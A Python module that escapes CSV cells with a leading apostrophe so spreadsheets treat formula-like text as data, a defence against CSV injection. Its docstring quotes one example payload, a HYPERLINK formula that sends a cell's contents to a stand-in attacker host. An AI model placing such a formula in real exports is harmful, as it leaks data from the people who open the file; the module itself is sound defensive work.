"""CSV exports that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with '=', '+', '-' or '@' (and
some read past a leading tab or carriage return), so a student named
``=HYPERLINK("http://evil.example/?x="&A2)`` would run in the reader's spreadsheet. Such a cell
is written with a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV
injection). Numbers are written as numbers: a negative distance never occurs, and a number
cannot carry a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_safe(value: object) -> object:
    """The value as a cell no spreadsheet evaluates: text that could start a formula gets a
    leading apostrophe; anything else (numbers, None) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Mapping[str, object]], fields: list[str]) -> str:
    """``rows`` as CSV text with a header of ``fields`` (other keys ignored), every text cell
    made spreadsheet-safe."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: spreadsheet_safe(v) for k, v in row.items()})
    return out.getvalue()
